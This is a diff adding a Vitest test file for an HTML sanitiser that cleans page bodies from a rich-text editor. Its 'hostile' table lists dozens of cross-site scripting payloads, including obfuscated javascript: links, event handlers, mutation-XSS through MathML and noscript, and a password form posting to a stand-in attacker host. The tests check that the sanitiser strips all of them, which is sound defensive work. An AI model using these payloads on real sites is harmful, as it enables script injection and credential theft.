@@ -1,0 +1,121 @@
+import { describe, expect, it } from 'vitest'
+import { cleanBody, imagesIn, textOf } from './clean-body.ts'
+
+const image = `/api/v1/images/${'0'.repeat(26)}`
+
+describe('[PAGES-20] the body of a page', () => {
+  it('[EDITOR-03] [EDITOR-04] keeps what the editor makes', () => {
+    const made = [
+      '<h2>Terms</h2><h3>Of use</h3><h4>Of this</h4>',
+      '<p>Some <strong>bold</strong>, <em>leaning</em>, <u>lined</u>, <s>gone</s> and <code>typed</code><br />words.</p>',
+      '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol><hr />',
+      '<blockquote><p>said</p></blockquote>',
+      '<pre><code class="language-javascript">if (1 &lt; 2) alert("x")</code></pre>',
+      '<div data-info="important"><p>Read</p></div><div data-info="warning"><p>Mind</p></div><div data-info="note"><p>See</p></div>',
+      '<p><a href="https://example.org/a?b=c&amp;d">out</a> <a href="/pages/x">in</a> <a href="mailto:a@example.org">mail</a></p>',
+      `<p><img alt="A &quot;plan&quot;" src="${image}" width="640" height="480" /></p>`,
+    ].join('')
+    expect(cleanBody(made)).toBe(made)
+  })
+
+  const hostile: readonly (readonly [string, string])[] = [
+    ['a script', '<script>alert(1)</script>'],
+    ['a script that never ends', '<script>alert(1)'],
+    ['a handler', `<img src="${image}" onerror="alert(1)">`],
+    ['a handler without quotes', '<p onclick=alert(1)>x</p>'],
+    ['a handler after a slash', `<img/src="${image}"/onerror=alert(1)>`],
+    ['an address that runs', '<a href="javascript:alert(1)">x</a>'],
+    ['one in capitals with a tab', '<a href="JaVa\tScRiPt:alert(1)">x</a>'],
+    ['one with an entity', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
+    ['one behind a control sign', '<a href="\u0001javascript:alert(1)">x</a>'],
+    ['one of Visual Basic', '<a href="vbscript:msgbox(1)">x</a>'],
+    ['a page in an address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+    ['a picture in an address', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
+    ['a drawing', '<svg onload="alert(1)"><script>alert(1)</script><use href="#x"/></svg>'],
+    [
+      'a drawing with an animated address',
+      '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
+    ],
+    ['a style element', '<style>*{background:url(https://evil.example)}</style>'],
+    ['a style attribute', '<p style="position:fixed;background:url(https://evil.example)">x</p>'],
+    ['a class of the application', '<div class="overlay"><p class="toast">x</p></div>'],
+    ['an id that a script would find', '<p id="site">x</p><a name="root">x</a>'],
+    ['a frame', '<iframe src="https://evil.example"></iframe>'],
+    ['a page in a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['a form', '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'],
+    ['a base', '<base href="https://evil.example/">'],
+    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
+    ['a picture of another site', '<img src="https://evil.example/pixel.gif" alt="x">'],
+    ['a picture of any other address of ours', '<img src="/api/v1/accounts/sign-out" alt="x">'],
+    ['an address without a scheme', '<a href="//evil.example">x</a>'],
+    ['a comment for old browsers', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
+    ['what noscript hides', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+    ['what a template hides', '<template><script>alert(1)</script></template>'],
+    [
+      'what MathML turns round',
+      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    ],
+    [
+      'what a form in a table turns round',
+      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+    ],
+    ['a text area that ends in an attribute', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
+    ['a broken tag', '<<script>script>alert(1)</</script>script>'],
+    ['a tag in an attribute', '<a href="https://example.org/" title="\'><script>alert(1)</script>">x</a>'],
+    ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
+    ['a title', '<title><script>alert(1)</script></title>'],
+  ]
+
+  it.each(hostile)('[PAGES-02] holds nothing of %s', (_what, html) => {
+    const clean = cleanBody(`<p>before</p>${html}<p>after</p>`)
+    // What is left is read as a browser reads it: tags and their attributes, with words between.
+    const tags = [...clean.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g)]
+    const words = clean.replace(/<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g, '')
+    expect(words).not.toMatch(/[<>]/)
+    for (const [tag, name = '', attributes = ''] of tags) {
+      expect(['p', 'a', 'img', 'div', 'br'], tag).toContain(name)
+      for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
+        expect(['href', 'title', 'alt', 'src'], tag).toContain(attribute)
+        if (attribute === 'href') expect(value, tag).toMatch(/^https:\/\/example\.org\/$/)
+        if (attribute === 'src') expect(value, tag).toBe(image)
+      }
+    }
+    expect(clean.startsWith('<p>before</p>')).toBe(true)
+  })
+
+  it('is not made worse by cleaning it twice', () => {
+    for (const [what, html] of hostile) {
+      const once = cleanBody(html)
+      expect(cleanBody(once), what).toBe(once)
+    }
+  })
+
+  it('is at most so deep, and keeps the words', () => {
+    const deep = `${'<blockquote>'.repeat(5000)}words${'</blockquote>'.repeat(5000)}`
+    const clean = cleanBody(deep)
+    expect(clean.match(/<blockquote>/g)).toHaveLength(60)
+    expect(clean).toContain('words')
+    expect(cleanBody(clean)).toBe(clean)
+  })
+
+  it('takes time in step with its length', () => {
+    const started = performance.now()
+    cleanBody('<'.repeat(100_000))
+    cleanBody('<a href="'.repeat(20_000))
+    cleanBody('<p>'.repeat(50_000))
+    expect(performance.now() - started).toBeLessThan(5000)
+  })
+
+  it('[PAGES-21] names the images that it shows, by their addresses on this or any name of the site', () => {
+    const clean = cleanBody(`<img src="https://drive.example${image}"><img src="${image}"><img src="/x">`)
+    expect(imagesIn(clean)).toEqual(['0'.repeat(26)])
+    expect(clean).toBe(`<img alt="" src="${image}" />`.repeat(2))
+  })
+
+  it('has words of its own for the list', () => {
+    expect(textOf(cleanBody('<h2>A &lt;b&gt;</h2><p>one<br>two&nbsp;&amp; <b>th</b>ree</p><ul><li>x</li></ul>'))).toBe(
+      'A <b> one two & three x',
+    )
+  })
+})
